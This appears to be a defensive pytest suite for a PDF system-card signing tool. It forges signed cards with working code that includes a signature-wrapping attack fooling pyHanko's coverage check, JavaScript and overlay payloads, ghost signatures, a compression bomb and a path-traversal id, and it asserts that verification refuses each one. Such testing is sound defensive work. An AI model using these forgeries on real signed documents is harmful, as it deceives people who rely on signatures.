"""Attacks on signed system cards: what pyHanko's coverage verdict lets through, and the rest.

The wrapping attack: an appended revision forges the page and the attached record, and
redefines a signature dictionary with the same /ByteRange and CMS but a literal /Contents
padded so that ``len1 + len2 + 2 * len(/Contents) + 2`` is the new file length. pyHanko 0.38
then reports that signature intact, trusted and covering the entire file. Everything here is
built from a card the test renders and signs itself, with pyHanko's incremental writer.
"""

from __future__ import annotations

import io
import json
import re
import time
import tracemalloc
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import scorecard.card.verify as verify_module
from scorecard.card.verify import verify_card
from scorecard.sign.coverage import MAX_FILE_BYTES, check_structure
from scorecard.sign.keys import new_identity
from scorecard.sign.validate import validate_signatures

PASSPHRASE = b"correct horse battery staple"
SIGNERS = (("SAG", "Dr. Jonas Berg"), ("CEO", "Alex Moreau"))


@dataclass(repr=False)
class Cards:
    once: bytes  # certified by the SAG chair
    twice: bytes  # then approved by the CEO
    trust: list[Path]
    folder: Path
    db: str

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path


@pytest.fixture(scope="module")
def cards(tmp_path_factory: pytest.TempPathFactory) -> Cards:
    """One rendered card, signed once then twice (module-wide: rendering is the slow part)."""
    from scorecard.commands import (
        attest,
        decide,
        ingest,
        init,
        models_add,
        render,
        score_model,
        sign,
    )
    from scorecard.resources import example_dir
    from tests.conftest import S

    folder = tmp_path_factory.mktemp("attacks")
    db = f"sqlite:///{folder / 'scorecard.db'}"
    init(S(db))
    models_add(S(db), "Kestrel-2", "", "example", by="tester")
    ingest(S(db), [example_dir() / "evidence-pre.csv"], "Kestrel-2", "pre", by="tester")
    ingest(S(db), [example_dir() / "evidence-post.csv"], "Kestrel-2", "post", by="tester")
    score_model(S(db), "Kestrel-2", by="tester")
    attest(S(db), "Kestrel-2", "security", "CISO", "weights in the enclave")
    decide(S(db), "Kestrel-2", "deploy", "sag", "SAG chair", "post is medium")
    pdf = folder / "card.pdf"
    render(S(db), "Kestrel-2", pdf)
    trust, versions = [], []
    for role, name in SIGNERS:
        cert, key = new_identity(name, f"{role}@example.org", folder / role, PASSPHRASE)
        sign(S(db), pdf, pdf, key=key, cert=cert, passphrase=PASSPHRASE, role=role, name=name)
        trust.append(cert)
        versions.append(pdf.read_bytes())
    return Cards(versions[0], versions[1], trust, folder, db)


# --- Building attacks with pyHanko's incremental writer -----------------------------------


def _generic() -> Any:
    from pyhanko.pdf_utils import generic

    return generic


def _raw_literal(value: bytes) -> Any:
    """A /Contents written as a literal string ``( ... )``, as the attack needs."""
    generic = _generic()

    class RawLiteral(generic.PdfObject):  # type: ignore[misc]
        def write_to_stream(
            self, stream: Any, handler: Any = None, container_ref: Any = None
        ) -> None:
            out = bytearray(b"(")
            for byte in value:
                if byte in b"()\\":
                    out += b"\\" + bytes([byte])
                elif byte == 0x0D:
                    out += b"\\r"
                else:
                    out.append(byte)
            stream.write(bytes(out) + b")")

    return RawLiteral()


def _page(w: Any) -> tuple[Any, Any]:
    ref = w.root["/Pages"]["/Kids"].raw_get(0)
    return ref, ref.get_object()


def forge(w: Any) -> None:
    """Replace the first page's content and the attached record with forged ones."""
    generic = _generic()
    ref, page = _page(w)
    content = generic.StreamObject(stream_data=b"BT /F1 48 Tf 72 600 Td (APPROVED) Tj ET")
    page["/Contents"] = w.add_object(content)
    w.mark_update(ref)
    names = w.root["/Names"]["/EmbeddedFiles"]["/Names"]
    spec_ref = names.raw_get(1)
    spec = spec_ref.get_object()
    card = json.loads(spec["/EF"]["/F"].data)
    card["decisions"][0]["rationale"] = "FORGED after signing"
    stream = generic.StreamObject(
        {generic.NameObject("/Type"): generic.NameObject("/EmbeddedFile")},
        stream_data=json.dumps(card).encode(),
    )
    stream.compress()
    spec["/EF"][generic.NameObject("/F")] = w.add_object(stream)
    w.mark_update(spec_ref)


def javascript(w: Any) -> None:
    generic = _generic()
    action = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert('approved')"),
        }
    )
    tree = generic.DictionaryObject(
        {
            generic.NameObject("/Names"): generic.ArrayObject(
                [generic.TextStringObject("x"), w.add_object(action)]
            )
        }
    )
    w.root["/Names"][generic.NameObject("/JavaScript")] = w.add_object(tree)
    w.update_root()


def open_action(w: Any) -> None:
    generic = _generic()
    ref, _ = _page(w)
    w.root[generic.NameObject("/OpenAction")] = generic.ArrayObject(
        [ref, generic.NameObject("/Fit")]
    )
    w.update_root()


def _overlay(subtype: str) -> Callable[[Any], None]:
    def add(w: Any) -> None:
        generic = _generic()
        ref, page = _page(w)
        box = generic.ArrayObject([generic.FloatObject(v) for v in (0, 0, 595, 842)])
        appearance = generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): box,
            },
            stream_data=b"1 g 0 0 595 842 re f",
        )
        annotation = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject(subtype),
                generic.NameObject("/Rect"): box,
                generic.NameObject("/Contents"): generic.TextStringObject("APPROVED"),
                generic.NameObject("/DA"): generic.TextStringObject("0 g /Helv 24 Tf"),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): w.add_object(appearance)}
                ),
            }
        )
        page["/Annots"].append(w.add_object(annotation))
        w.mark_update(ref)

    add.__name__ = subtype.strip("/").lower()
    return add


def second_attachment(w: Any) -> None:
    generic = _generic()
    tree_ref = w.root["/Names"].raw_get("/EmbeddedFiles")
    tree = tree_ref.get_object()
    stream = generic.StreamObject(
        {generic.NameObject("/Type"): generic.NameObject("/EmbeddedFile")},
        stream_data=b'{"format": "scorecard-card/1", "forged": true}',
    )
    spec = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Filespec"),
            generic.NameObject("/F"): generic.TextStringObject("appendix.json"),
            generic.NameObject("/EF"): generic.DictionaryObject(
                {generic.NameObject("/F"): w.add_object(stream)}
            ),
        }
    )
    tree["/Names"].extend([generic.TextStringObject("appendix.json"), w.add_object(spec)])
    w.mark_update(tree_ref)


PAYLOADS = [forge, javascript, open_action, _overlay("/FreeText"), _overlay("/Stamp")]
PAYLOADS.append(second_attachment)


def _signature_ref(data: bytes, field: str) -> Any:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    for ref in reader.root["/AcroForm"]["/Fields"]:
        if str(ref.get_object().get("/T")) == field:
            return ref.get_object().raw_get("/V")
    raise AssertionError(f"no field {field}")


def incremental(data: bytes, mutate: Callable[[Any], None], wrap: str | None = None) -> bytes:
    """``data`` plus one revision made by ``mutate``; with ``wrap``, that revision also
    redefines the named signature so that pyHanko's length arithmetic says ENTIRE_FILE."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    generic = _generic()
    if wrap is None:
        w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        mutate(w)
        out = io.BytesIO()
        w.write(out)
        return out.getvalue()
    ref = _signature_ref(data, wrap)
    signature = ref.get_object()
    _, len1, _, len2 = (int(v) for v in signature["/ByteRange"])
    contents = bytes(signature.raw_get("/Contents"))
    pad = 0
    for _ in range(20):
        w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        mutate(w)
        target = generic.Reference(ref.idnum, ref.generation, w.prev)
        w.get_object(target)[generic.NameObject("/Contents")] = _raw_literal(
            contents + b"\x00" * pad
        )
        w.mark_update(target)
        out = io.BytesIO()
        w.write(out)
        result = out.getvalue()
        # A padding byte adds 1 byte to the file and 2 to the sum; the compressed xref may
        # move by a few bytes, so blank lines before startxref make up a short file.
        gap = len(result) - (len1 + len2 + 2 * (len(contents) + pad) + 2)
        if gap <= 0:
            cut = result.rfind(b"startxref")
            return result[:cut] + b"\n" * -gap + result[cut:]
        pad += gap
    raise AssertionError("no padding makes pyHanko's arithmetic match")


# --- The attacks -------------------------------------------------------------------------


def test_the_wrapping_attack_fools_pyhanko_alone(
    cards: Cards, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The hole exists: without the byte-level check, verify passes a forged card."""
    forged = cards.write("wrapped-once.pdf", incremental(cards.once, forge, wrap="Signature1"))
    checks = validate_signatures(forged, cards.trust)
    assert [c.ok for c in checks] == [True] and checks[0].coverage == "ENTIRE_FILE"
    monkeypatch.setattr(verify_module, "_check_coverage", lambda report, pdf: True)
    fooled = verify_card(forged, cards.trust)
    passed = {c.name for c in fooled.checks if c.ok}
    # pyHanko reports the signature intact and covering the file, and the forged record is
    # consistent with itself. (This forge's pages are not the record's, which the pages check
    # would show too; a careful forger renders them from the forged record.)
    assert passed >= {"signatures", "record", "levels"}, fooled.checks
    assert "FORGED" in json.dumps(fooled.card)
    monkeypatch.undo()
    report = verify_card(forged, cards.trust)
    assert not report.ok and report.checks[0].name == "signatures"
    assert "Signature1" in report.checks[0].detail


def test_legitimate_cards_still_verify(cards: Cards) -> None:
    for name, data in (("once", cards.once), ("twice", cards.twice)):
        assert check_structure(data) == [], name
        report = verify_card(cards.write(f"{name}.pdf", data), cards.trust, cards.db)
        failed = {c.name: c.detail for c in report.checks if not c.ok}
        if name == "twice":
            assert report.ok, (name, failed)
        else:  # a genuine card half-way: only the missing signer shows
            assert failed == {"roles": "no signature as CEO, which preparedness-v1 requires"}


WRAPS = [("once", "Signature1"), ("twice", "Signature1"), ("twice", "Signature2")]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.__name__)
@pytest.mark.parametrize(("base", "wrap"), [*WRAPS, ("once", None), ("twice", None)])
def test_changes_after_signing_are_caught(
    cards: Cards, base: str, wrap: str | None, payload: Callable[[Any], None]
) -> None:
    data = incremental(getattr(cards, base), payload, wrap)
    problems = check_structure(data)
    last = "Signature1" if base == "once" else "Signature2"
    assert any("holds 0 new signatures" in p and last in p for p in problems), problems
    assert any(p.startswith("revision ") and ", after Signature1" in p for p in problems)
    if wrap is not None:
        assert any(p.startswith(f"{wrap}: its signature dictionary") for p in problems)
    if payload in (javascript, open_action):
        assert any(p.startswith("active content") for p in problems)
    report = verify_card(cards.write(f"{base}-{wrap}-{payload.__name__}.pdf", data), cards.trust)
    assert not report.ok
    assert report.checks[0].name == "signatures" and not report.checks[0].ok
    assert (wrap or last) in report.checks[0].detail


def test_active_content_signed_in_is_refused(cards: Cards) -> None:
    """Active content is refused in any revision, also one a trusted person signed."""
    from scorecard.sign.signer import sign_pdf

    for payload in (javascript, open_action):
        source = cards.write("with-action.pdf", incremental(cards.twice, payload))
        out = cards.folder / "signed-action.pdf"
        cert, key = cards.trust[1], cards.folder / "CEO" / "signing-key.pem"
        assert key.is_file()
        sign_pdf(source, out, key=key, cert=cert, passphrase=PASSPHRASE, role="X", name="Y")
        problems = check_structure(out.read_bytes())
        assert any(p.startswith("active content") for p in problems), problems
        assert not verify_card(out, cards.trust).ok


def test_a_signature_revision_that_changes_more_is_caught(cards: Cards) -> None:
    """A signature whose own revision also changes the page (a signer fooled into signing an
    overlay) breaks the certification: it is named with the revision."""
    from scorecard.sign.signer import sign_pdf

    source = cards.write("overlaid.pdf", incremental(cards.twice, _overlay("/FreeText")))
    # Sign over the change, as a third (approval) signature: its revision 4 is signed...
    out = cards.folder / "signed-overlay.pdf"
    cert, key = cards.trust[1], cards.folder / "CEO" / "signing-key.pem"
    sign_pdf(source, out, key=key, cert=cert, passphrase=PASSPHRASE, role="X", name="Y")
    problems = check_structure(out.read_bytes())
    # ...but revision 4 (the overlay) holds no signature of its own, and changes the page.
    assert any("revision 4" in p and "Signature1, Signature2" in p for p in problems), problems
    assert not verify_card(out, cards.trust).ok


# --- Hostile files: bounded work, a problem string, never a traceback ---------------------


def append_revision(data: bytes, objects: dict[int, bytes]) -> bytes:
    """``data`` plus a hand-written revision (classic cross-reference table)."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    out = bytearray(data)
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    numbers = sorted(offsets)
    while numbers:  # one subsection per run of consecutive numbers
        run = 1
        while run < len(numbers) and numbers[run] == numbers[0] + run:
            run += 1
        out += b"%d %d\n" % (numbers[0], run)
        out += b"".join(b"%010d 00000 n \n" % offsets[num] for num in numbers[:run])
        numbers = numbers[run:]
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (max(objects) + 1, root, prev)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _bomb(size: int) -> bytes:
    packer = zlib.compressobj(9)
    chunk = b"\x00" * 2**20
    return b"".join(packer.compress(chunk) for _ in range(size // 2**20)) + packer.flush()


def _stream(body: bytes, flate: bool = True) -> bytes:
    flt = b"/Filter /FlateDecode " if flate else b""
    return b"<< %s/Length %d >>\nstream\n%s\nendstream" % (flt, len(body), body)


HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "compression bomb (100 MB of zeros)": lambda d: append_revision(
        d, {500: _stream(_bomb(100 * 2**20))}
    ),
    "12,000 small streams": lambda d: append_revision(
        d, {500 + i: _stream(zlib.compress(b"q Q")) for i in range(12_000)}
    ),
    "120,000 objects": lambda d: append_revision(d, {500 + i: b"<< >>" for i in range(120_000)}),
    "arrays nested 100,000 deep": lambda d: append_revision(
        d, {500: b"[" * 100_000 + b"]" * 100_000}
    ),
    "a cross-reference stream claiming 10^9 objects": lambda d: (
        d
        + b"\n500 0 obj\n<< /Type /XRef /W [1 4 2] /Index [0 1000000000] /Length 0 >>\nstream\n"
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(d) + 1)
    ),
    "an unterminated string": lambda d: append_revision(d, {500: b"(" + b"a" * 100_000}),
    "a double-compressed stream": lambda d: append_revision(
        d,
        {
            500: b"<< /Filter [/FlateDecode /FlateDecode] /Length 10 >>\nstream\n0123456789"
            b"\nendstream"
        },
    ),
}


@pytest.mark.parametrize("build", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_files_are_refused_with_bounded_work(
    cards: Cards, build: Callable[[bytes], bytes]
) -> None:
    data = build(cards.twice)
    started = time.perf_counter()
    problems = check_structure(data)
    elapsed = time.perf_counter() - started
    assert problems and all(isinstance(p, str) for p in problems)
    assert elapsed < 15, elapsed
    report = verify_card(cards.write("hostile.pdf", data), cards.trust)
    assert not report.ok and report.checks[0].name == "signatures"


def test_a_compression_bomb_is_never_inflated_in_memory(cards: Cards) -> None:
    data = HOSTILE["compression bomb (100 MB of zeros)"](cards.twice)
    tracemalloc.start()
    try:
        problems = check_structure(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert any("64 MB decompressed: refused (limit)" in p for p in problems), problems
    assert peak < 16 * 2**20, peak  # the limit is counted, the output is not kept


def test_oversized_files_are_refused_before_reading(cards: Cards) -> None:
    big = cards.folder / "big.pdf"
    with big.open("wb") as out:
        out.write(cards.twice)
        out.truncate(MAX_FILE_BYTES + 1)
    report = verify_card(big, cards.trust)
    assert not report.ok and "refused (limit)" in report.checks[0].detail
    big.unlink()


# --- Random mutations --------------------------------------------------------------------


def _gaps(data: bytes) -> list[tuple[int, int]]:
    return [
        (int(m.group(1)), int(m.group(2)))
        for m in re.finditer(rb"/ByteRange \[0 (\d+) (\d+) \d+\]", data)
    ]


def _mutate(data: bytes, draw: Any) -> tuple[str, bytes]:
    n = len(data)
    kind = draw(st.sampled_from(["flip", "flip-tail", "flip-gap", "truncate", "cut", "insert"]))
    if kind.startswith("flip"):
        if kind == "flip-gap":
            a, b = draw(st.sampled_from(_gaps(data)))
            position = draw(st.integers(a, b - 1))
        elif kind == "flip-tail":  # the signature revisions: dictionaries, xref, trailers
            position = draw(st.integers(n - 12_000, n - 1))
        else:
            position = draw(st.integers(0, n - 1))
        mutated = bytearray(data)
        mutated[position] ^= draw(st.integers(1, 255))
        return f"{kind} {position}", bytes(mutated)
    if kind == "truncate":
        size = draw(st.integers(0, n - 1))
        return f"truncate {size}", data[:size]
    if kind == "cut":
        start = draw(st.integers(0, n - 1))
        return f"cut {start}", data[:start] + data[start + draw(st.integers(1, 64)) :]
    position = draw(st.integers(0, n))
    return f"insert {position}", data[:position] + draw(st.binary(min_size=1)) + data[position:]


def _revision_ends(data: bytes) -> set[int]:
    return {m.end() for m in re.finditer(rb"startxref\s+\d+\s+%%EOF\n", data)}


@settings(
    max_examples=700,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.data())
def test_mutations_never_pass_the_structure_check_unseen(cards: Cards, data: st.DataObject) -> None:
    """Cheap check on many mutations: no exception, and whatever passes it changed only bytes
    the last signature digests (so the digest check fails it) or is a genuine earlier version
    (a signed revision boundary: the card as it was before a later signature)."""
    original = cards.twice
    what, mutated = _mutate(original, data.draw)
    if mutated == original:
        return
    problems = check_structure(mutated)
    assert isinstance(problems, list) and all(isinstance(p, str) for p in problems)
    if problems:
        return
    if what.startswith("truncate"):  # an earlier version: unsigned, or fewer signatures
        ends = _revision_ends(original)
        assert len(mutated) in ends or len(mutated) + 1 in ends, what
        assert original.startswith(mutated)
        return
    assert what.startswith("flip"), what  # a length change always breaks the structure
    position = int(what.split()[1])
    a, b = _gaps(original)[-1]
    # In the last signature's unsigned gap only the CMS itself may change unseen here (its
    # signature check fails it): never the delimiters, the letter case or the zero padding.
    assert not a <= position < b or a < position <= a + _cms_digits(original, a, b), what


def _cms_digits(data: bytes, a: int, b: int) -> int:
    value = bytes.fromhex(data[a + 1 : b - 1].decode())
    count = value[1] - 0x80 if value[1] > 0x80 else 0
    return 2 * (2 + count + (int.from_bytes(value[2 : 2 + count]) if count else value[1]))


def test_changed_cms_bytes_never_verify(cards: Cards) -> None:
    """Flips in the signed parts of the last signature's CMS (the message digest attribute,
    the signature value) fail it. Known limit: parts of the CMS that nothing signs (e.g. the
    NULL parameters of the SignerInfo digest algorithm) can change and still verify; the
    document, the signer and what was signed are then unchanged."""
    a, b = _gaps(cards.twice)[-1]
    digits = _cms_digits(cards.twice, a, b)
    hex_cms = cards.twice[a + 1 : a + 1 + digits]
    digest = hex_cms.index(b"2A864886F70D010904") + 18 + 8  # OID, SET and OCTET STRING headers
    positions = [digest + 1, digest + 30, digest + 63]
    positions += [digits - 1, digits - 40, digits - 100]  # the signature value ends the CMS
    for offset in positions:
        position = a + 1 + offset
        mutated = bytearray(cards.twice)
        mutated[position] = ord("0") if mutated[position] != ord("0") else ord("1")
        report = verify_card(cards.write("cms.pdf", bytes(mutated)), cards.trust)
        assert not report.ok, position


@settings(
    max_examples=300,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.data())
def test_changed_revisions_are_caught(cards: Cards, data: st.DataObject) -> None:
    """Garbage or crafted revisions appended to a signed card never pass."""
    original = cards.twice
    bodies = st.sampled_from(
        [
            b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /Contents (x) >>",
            b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Producer (x) >>",
            _stream(zlib.compress(b"BT (forged) Tj ET")),
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
            b"(" + b"\x00" * 64 + b")",
        ]
    )
    choice = data.draw(st.integers(0, 2))
    if choice == 0:
        numbers = data.draw(st.lists(st.integers(1, 200), min_size=1, max_size=4, unique=True))
        mutated = append_revision(original, {num: data.draw(bodies) for num in numbers})
    elif choice == 1:
        mutated = original + data.draw(st.binary(min_size=1, max_size=300))
    else:
        mutated = original + b"\n" + data.draw(st.binary(max_size=200)) + b"\n%%EOF\n"
    problems = check_structure(mutated)
    assert problems and all(isinstance(p, str) for p in problems)


@settings(
    max_examples=30,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.data())
def test_mutated_cards_never_verify(cards: Cards, data: st.DataObject) -> None:
    """Full verify (pyHanko included) on a sample: a changed card never passes, never raises."""
    what, mutated = _mutate(cards.twice, data.draw)
    a, b = _gaps(cards.twice)[-1]
    if (
        mutated == cards.twice
        or (what.startswith("truncate") and len(mutated) in _revision_ends(cards.twice))
        or (what.startswith("flip") and a <= int(what.split()[1]) < b)  # see the CMS test
    ):
        return
    report = verify_card(cards.write("mutated.pdf", mutated), cards.trust)
    assert not report.ok, what


# --- Found in review: two readings of one file ----------------------------------------------


def ghost(data: bytes, objects: dict[int, bytes], extra_entries: bytes = b"") -> bytes:
    """Append a revision with `objects` and a signature dictionary that no field holds (pyHanko
    never validates it), its byte range made to end at the end of the file. No key needed."""
    from scorecard.sign.pdfsyntax import Document

    last = Document(data).revisions[-1]
    sig_num = int(last.trailer["/Size"])
    out = bytearray(data)
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offsets[sig_num] = len(out)
    head = b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " % (
        sig_num
    )
    placeholder = b"/ByteRange [0 0000000000 0000000000 0000000000]"
    at = len(out) + len(head)
    out += head + placeholder + b" /Contents "
    a = len(out)
    out += b"<3003020100" + b"0" * 200 + b">"
    b = len(out)
    out += b" >>\nendobj\n"
    xref = len(out)
    out += b"xref\n" + extra_entries
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    root, info = last.trailer["/Root"], last.trailer["/Info"]
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        sig_num + 1,
        root.num,
        info.num,
        last.xref_offset,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    byte_range = b"/ByteRange [0 %10d %10d %10d]" % (a, b, len(out) - b)
    out[at : at + len(byte_range)] = byte_range
    return bytes(out)


def test_a_signature_no_field_holds_is_refused(cards: Cards) -> None:
    """A ghost signature revision rewriting the Info dictionary (the title viewers show)."""
    from scorecard.sign.pdfsyntax import Document

    info = Document(cards.twice).revisions[-1].trailer["/Info"].num
    forged = ghost(cards.twice, {info: b"<< /Title (ALL RISKS LOW, APPROVED BY THE BOARD) >>"})
    problems = check_structure(forged)
    assert any("is not the value of any signature field" in p for p in problems), problems
    report = verify_card(cards.write("ghost.pdf", forged), cards.trust)
    assert not report.ok and report.checks[0].name == "signatures"


def test_an_object_listed_twice_in_one_revision_is_refused(cards: Cards) -> None:
    """poppler takes the first of two entries, pyHanko and our reader the last: a page that
    poppler-based viewers show differently from what is checked. Refused outright."""
    from scorecard.sign.pdfsyntax import Document

    doc = Document(cards.twice)
    located = doc.latest(7, len(doc.revisions) - 1)
    assert located is not None
    page_offset = located[1][1]
    page = cards.twice[page_offset : cards.twice.index(b"endobj", page_offset)]
    body = page.split(b"obj", 1)[1]
    decoy = b"7 1\n%010d 00000 n \n" % page_offset  # first entry: poppler's reading
    forged = ghost(cards.twice, {7: body}, extra_entries=decoy)  # last entry: ours
    problems = check_structure(forged)
    assert any("object 7 is listed twice" in p for p in problems), problems


def test_a_generation_that_differs_from_its_entry_is_refused(cards: Cards) -> None:
    from scorecard.sign.pdfsyntax import Document

    doc = Document(cards.twice)
    info = doc.revisions[-1].trailer["/Info"].num
    forged = ghost(cards.twice, {info: b"<< /Title (x) >>"}).replace(
        b"%d 0 obj\n<< /Title" % info, b"%d 1 obj\n<< /Title" % info
    )
    assert any("generation 1" in p for p in check_structure(forged))


def test_a_hostile_framework_id_or_id_is_a_failed_check_not_a_traceback(
    cards: Cards, tmp_path: Path
) -> None:
    from scorecard.card.attachment import extract
    from scorecard.render.html import render_html, stylesheet
    from scorecard.render.pdf import write_pdf

    honest = cards.write("honest.pdf", cards.twice)
    record = json.loads(extract(honest))
    for damage in (
        lambda c: c["framework"].__setitem__("id", "../../../../../../proc/1/root/x"),
        lambda c: c["scorecard"].__setitem__("id", 2**70),
        lambda c: c["decisions"].append({"id": 2**70}),
    ):
        hostile = json.loads(json.dumps(record))
        damage(hostile)
        pdf = tmp_path / "hostile.pdf"
        write_pdf(render_html(record), stylesheet(), hostile, pdf)
        report = verify_card(pdf, cards.trust, cards.db)
        assert not report.ok
